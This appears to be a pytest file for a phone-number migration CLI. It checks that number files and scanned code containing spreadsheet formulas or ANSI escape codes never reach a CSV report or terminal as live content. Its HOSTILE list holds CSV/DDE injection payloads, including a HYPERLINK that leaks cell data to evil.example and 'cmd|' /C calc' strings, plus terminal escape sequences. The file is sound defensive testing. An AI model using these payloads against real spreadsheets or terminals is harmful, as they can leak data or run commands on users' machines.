"""Formula and terminal injection: number files, v1 inputs and scanned code holding
`=HYPERLINK(...)`, `@SUM(...)` or ANSI escape sequences never reach a spreadsheet as a formula
or a terminal as an escape code; E.164 numbers stay exactly as they are (issue 12 item 6)."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from pathlib import Path

from planfiles import IMPORT_DETAILS

from orchestrator.sandbox import RunningSandbox

ENV = {k: v for k, v in os.environ.items() if not k.startswith("BWMIGRATE_")} | {
    "BWMIGRATE_USERNAME": "sandbox",
    "BWMIGRATE_PASSWORD": "sandbox",
}
ESC = "\x1b"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    f"{ESC}[2J{ESC}]0;pwned{ESC}\\{ESC}[31m+14352150009",
    "\u202e+14352150008",
]
GOOD = ["+14352150001", "+14352150002"]
PLAIN_NUMBER = re.compile(r"[+-]\d+(\.\d+)?")


def _executes(cell: str) -> bool:
    """Would a spreadsheet opening the CSV run this cell as a formula?"""
    if cell.startswith(("=", "@", "\t", "\r")):
        return True
    return cell.startswith(("+", "-")) and not PLAIN_NUMBER.fullmatch(cell)


def _cli(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "orchestrator", *args],
        cwd=cwd,
        env=ENV,
        capture_output=True,
        text=True,
        timeout=120,
    )


def _no_control(text: str) -> None:
    """No escape or other control character (newlines between lines aside) was printed."""
    bad = [i for i, ch in enumerate(text) if not ch.isprintable() and ch != "\n"]
    assert not bad, f"control characters printed: {text[max(bad[0] - 80, 0) : bad[0] + 80]!r}"


def _safe_csv(text: str) -> list[dict[str, str]]:
    """The rows of a CSV whose every cell is inert; fails on any cell a spreadsheet runs."""
    _no_control(text.replace("\n", ""))
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        for column, cell in row.items():
            assert not _executes(cell), (column, cell)
    return rows


def test_report_and_run_neither_execute_nor_emit_escapes(
    tmp_path: Path, sandbox: RunningSandbox
) -> None:
    """A run of a plan whose number file holds formulas and escape codes prints no control
    character; its CSV report has no executable cell and keeps E.164 numbers exact."""
    (tmp_path / "numbers.txt").write_text("\n".join([*GOOD, *HOSTILE]) + "\n", encoding="utf-8")
    (tmp_path / "p.toml").write_text(
        'name = "p"\naccount_id = "9900012"\n[rate]\nrequests_per_s = 200\n'
        'poll_interval_s = 0.05\n[[steps]]\nkind = "import"\nsite_id = "743"\n'
        f'{IMPORT_DETAILS}files = ["numbers.txt"]\n'
    )
    planned = _cli(tmp_path, "plan", "p.toml")
    _no_control(planned.stdout + planned.stderr)
    ran = _cli(tmp_path, "run", "p.toml", "--target", f"{sandbox.base_url}/api/v2", "--yes")
    assert ran.returncode == 1, ran.stderr  # the hostile cells failed as invalid input
    _no_control(ran.stdout + ran.stderr)
    reported = _cli(tmp_path, "report", "--state", "state/p.db")
    assert reported.returncode == 0, reported.stderr
    rows = _safe_csv(reported.stdout)
    assert sorted(r["number"] for r in rows if r["status"] == "succeeded") == GOOD
    inputs = {r["input"] for r in rows if r["status"] == "failed"}
    assert "'" + HOSTILE[0] in inputs and "'" + HOSTILE[1] in inputs
    assert len(rows) == len(GOOD) + len(HOSTILE)


def test_convert_writes_inert_csv_and_prints_no_escape(tmp_path: Path) -> None:
    """`convert` of a number list holding formulas and escape codes writes number CSVs with no
    executable cell (E.164 exact) and a report and summary with no control character."""
    (tmp_path / "list.txt").write_text(
        "\n".join(["+1 435-215-0001", "+14352150002", *HOSTILE]) + "\n", encoding="utf-8"
    )
    done = _cli(tmp_path, "convert", "list.txt", "--list-step", "remove", "--account", "1",
                "--out", "plan.toml")  # fmt: skip
    assert done.returncode == 1, done.stderr  # the hostile lines are rejected and reported
    _no_control(done.stdout + done.stderr)
    (csv_file,) = (tmp_path / "plan.numbers").iterdir()
    rows = _safe_csv(csv_file.read_text(encoding="utf-8"))
    assert [r["number"] for r in rows] == ["+14352150001", "+14352150002"]
    assert rows[0]["v1_text"] == "'+1 435-215-0001"
    _no_control((tmp_path / "plan.report.md").read_text(encoding="utf-8").replace("\n", ""))
    _no_control((tmp_path / "plan.toml").read_text(encoding="utf-8").replace("\n", ""))


def test_scan_prints_no_escape_from_the_scanned_code(tmp_path: Path) -> None:
    """A scanned file (and its name) carrying escape codes on a finding's line is reported with
    the codes shown, not emitted."""
    code = tmp_path / f"client{ESC}[31m.py"
    code.write_text(
        f'URL = "https://dashboard.bandwidth.com/api/v1/accounts/1/tns"  # {ESC}[2J\n',
        encoding="utf-8",
    )
    done = _cli(tmp_path, "scan", ".")
    assert done.returncode == 1, done.stderr
    _no_control(done.stdout + done.stderr)
    assert "\\x1b[31m" in done.stdout
